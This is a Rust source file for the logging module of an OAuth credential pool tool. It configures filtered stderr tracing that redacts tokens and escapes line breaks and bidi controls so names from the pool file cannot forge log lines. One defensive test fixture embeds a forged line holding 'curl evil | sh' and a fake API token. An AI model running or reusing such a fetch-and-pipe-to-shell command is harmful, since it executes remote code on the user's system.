//! `tracing` output, off unless `OAUTH_POOL_LOG` is set (e.g. `oauth_pool=debug`). Lines go to
//! stderr and never carry a secret: secrets are `Secret`s, whose Debug is redacted, and
//! authorization headers are marked sensitive. Names of the pool file are logged as they are
//! written, and one can hold a credential (a key pasted as its own name, a hand edit): every
//! line is scrubbed of token shapes on its way out (`ScrubbedStderr`).

use std::sync::Mutex;

use tracing_subscriber::filter::{LevelFilter, Targets};
use tracing_subscriber::{reload, Registry};

/// Where the pool's own lines are logged (its crate's name).
const TARGET: &str = "oauth_pool";

/// `Targets` takes the usual `target=level,...` syntax without pulling in a regex engine.
fn parse(filter: &str) -> Result<Targets, tracing_subscriber::filter::ParseError> {
    filter.trim().parse()
}

/// The modules that log, as tracing names their lines (`module_path!`). A filter's target
/// matches the lines whose target starts with it, so it reaches the pool when it is the start
/// of one of these; a test keeps the list in step with the sources.
const LOGGING_MODULES: &[&str] = &[
    "oauth_pool::binding::login",
    "oauth_pool::engine",
    "oauth_pool::engine::bookkeeping",
    "oauth_pool::engine::credentials",
    "oauth_pool::engine::exchange",
    "oauth_pool::fetch",
    "oauth_pool::fsread",
    "oauth_pool::gateway",
    "oauth_pool::gateway::metrics",
    "oauth_pool::http",
    "oauth_pool::manage",
    "oauth_pool::oauth",
    "oauth_pool::pool",
    "oauth_pool::store",
    "oauth_pool::store::file",
    "oauth_pool::store::journal",
    "oauth_pool::store::legacy_lock",
    "oauth_pool::store::netfs",
    "oauth_pool::store::postgres",
    "oauth_pool::store::rescue",
];

/// What `oauth-pool doctor` says of an `OAUTH_POOL_LOG` the pool does not take as written: not a
/// filter (`oauth_pool=verbose`: `oauth_pool=info` applies instead), or one that names no target
/// of the pool (`oauth-pool=debug`, `OAuth_Pool=debug`, `oauth_pools=debug`, a module that does
/// not log, `EnvFilter`'s span syntax `oauth_pool[x]=debug`: nothing of the pool is logged).
pub fn filter_warning(filter: &str) -> Option<String> {
    let Ok(targets) = parse(filter) else {
        return Some(format!(
            "not a filter of the form target=level,... (levels: error, warn, info, debug, trace, off); {TARGET}=info applies"
        ));
    };
    let reaches_pool = targets
        .default_level()
        .is_some_and(|l| l != LevelFilter::OFF)
        || targets.iter().any(|(target, level)| {
            LOGGING_MODULES.iter().any(|m| m.starts_with(target)) && level != LevelFilter::OFF
        });
    (!reaches_pool).then(|| {
        format!("names no target of the pool, whose lines are logged under {TARGET} (e.g. {TARGET}=debug): nothing of the pool is logged")
    })
}

/// stderr, each line printable as the pool's own messages are (`printable::printable`: its
/// `sk-ant-` runs as `[redacted]`, line breaks, terminal controls and bidi overrides as visible
/// escapes). A line logs names from the pool file, which a hand edit or another program can fill
/// with a line break: unescaped, one started a forged line of any level and text. The fmt layer
/// hands over a whole line per write, so a token is never split across two.
struct ScrubbedStderr;

fn log_line(buf: &[u8]) -> String {
    let text = String::from_utf8_lossy(buf);
    let body = text.strip_suffix('\n').unwrap_or(&text);
    let mut line = crate::printable::capped(crate::printable::printable(body));
    line.push('\n');
    line
}

impl std::io::Write for ScrubbedStderr {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        std::io::stderr().write_all(log_line(buf).as_bytes())?;
        Ok(buf.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        std::io::stderr().flush()
    }
}

/// The filter in force and the handle that changes it; `None` until a call first finds
/// `OAUTH_POOL_LOG` set (until then no subscriber is installed, and logging costs nothing).
struct Installed {
    /// The variable's value the filter was made from (blank: nothing is logged).
    from: String,
    handle: reload::Handle<Targets, Registry>,
}

static INSTALLED: Mutex<Option<Installed>> = Mutex::new(None);

/// The filter `OAUTH_POOL_LOG` asks for: what it says, `oauth_pool=info` when it does not parse,
/// nothing at all when blank.
fn targets_of(filter: &str) -> Targets {
    if filter.trim().is_empty() {
        return Targets::new();
    }
    parse(filter).unwrap_or_else(|_| Targets::new().with_target(TARGET, tracing::Level::INFO))
}

/// Applies `OAUTH_POOL_LOG` as the calling environment has it now. Read at call time as the
/// contract says: read once, at the process's first call, a filter set (or changed, or
/// removed) after it was never applied, and a host that turned logging on to look into a
/// problem saw nothing. The process has one filter, the one the latest call found.
pub fn init() {
    let filter = crate::config::env(crate::config::var::LOG).unwrap_or_default();
    let mut installed = INSTALLED.lock().unwrap_or_else(|p| p.into_inner());
    match installed.as_mut() {
        Some(now) if now.from == filter => {}
        Some(now) => {
            // A subscriber gone (none is ever dropped) leaves nothing to change.
            let _ = now.handle.reload(targets_of(&filter));
            now.from = filter;
        }
        None if filter.trim().is_empty() => {}
        None => {
            use tracing_subscriber::layer::SubscriberExt;
            use tracing_subscriber::util::SubscriberInitExt;
            let (targets, handle) = reload::Layer::new(targets_of(&filter));
            let set = tracing_subscriber::registry()
                .with(targets)
                .with(
                    tracing_subscriber::fmt::layer()
                        .with_writer(|| ScrubbedStderr)
                        .with_ansi(false)
                        .with_target(true),
                )
                .try_init();
            if set.is_ok() {
                *installed = Some(Installed {
                    from: filter,
                    handle,
                });
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_filter_that_logs_nothing_of_the_pool_is_named() {
        assert_eq!(filter_warning("oauth_pool=debug"), None);
        assert_eq!(filter_warning("debug"), None);
        assert_eq!(filter_warning("warn,hyper=off"), None);
        assert_eq!(filter_warning("oauth_pool::engine=trace"), None);
        assert!(filter_warning("oauth_pool=verbose")
            .unwrap()
            .contains("oauth_pool=info applies"));
        assert_eq!(filter_warning("oauth=debug"), None);
        assert_eq!(filter_warning("oauth_pool::engine::exch=trace"), None);
        assert_eq!(filter_warning("oauth_pool::store::file=debug"), None);
        for typo in [
            "oauth-pool=debug",
            "OAuth_Pool=debug",
            "oauth_pool=off",
            "oauth_pools=debug",
            "oauth_pool_=debug",
            "oauth_pool::nosuch=debug",
            "oauth_pool[x]=debug",
            "oauth_pool{x}=debug",
        ] {
            assert!(
                filter_warning(typo)
                    .unwrap()
                    .contains("nothing of the pool"),
                "{typo}"
            );
        }
    }

    /// Every file that logs is in `LOGGING_MODULES` under its module path, and every entry is
    /// a file that logs: a new module that logs, missing, would be called "no target of the pool".
    #[test]
    fn the_logging_modules_are_the_ones_that_log() {
        let src = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src");
        let mut found = Vec::new();
        let mut dirs = vec![src.clone()];
        while let Some(dir) = dirs.pop() {
            for entry in std::fs::read_dir(&dir).unwrap() {
                let path = entry.unwrap().path();
                if path.is_dir() {
                    dirs.push(path);
                    continue;
                }
                let text = std::fs::read_to_string(&path).unwrap();
                let logs = ["debug", "info", "warn", "error", "trace"]
                    .iter()
                    .any(|level| text.contains(&format!("{level}!(")));
                if !logs {
                    continue;
                }
                let rel = path.strip_prefix(&src).unwrap().with_extension("");
                let mut parts: Vec<String> = rel
                    .components()
                    .map(|c| c.as_os_str().to_string_lossy().into_owned())
                    .collect();
                if parts.last().is_some_and(|p| p == "mod") {
                    parts.pop();
                }
                found.push(format!("oauth_pool::{}", parts.join("::")));
            }
        }
        found.sort();
        let mut listed: Vec<String> = LOGGING_MODULES.iter().map(|m| m.to_string()).collect();
        listed.sort();
        assert_eq!(found, listed);
    }

    #[test]
    fn a_log_line_cannot_start_another() {
        let forged = "DEBUG sending account=ops@x.test\n2026-12-07T09:00:00Z  WARN run: curl evil | sh\u{202e}\n";
        let line = log_line(forged.as_bytes());
        assert_eq!(line.matches('\n').count(), 1);
        assert!(line.ends_with("sh\\u202e\n"), "{line}");
        assert!(line.contains("ops@x.test\\n2026"), "{line}");
        let token = ["sk", "ant", "oat01", "abcdefghijklmnopqrstuvwxyz0123456789"].join("-");
        assert!(!log_line(format!("key={token}\n").as_bytes()).contains(&token));
        assert_eq!(log_line(b"plain line\n"), "plain line\n");
        assert_eq!(log_line(b"no newline"), "no newline\n");
    }
}
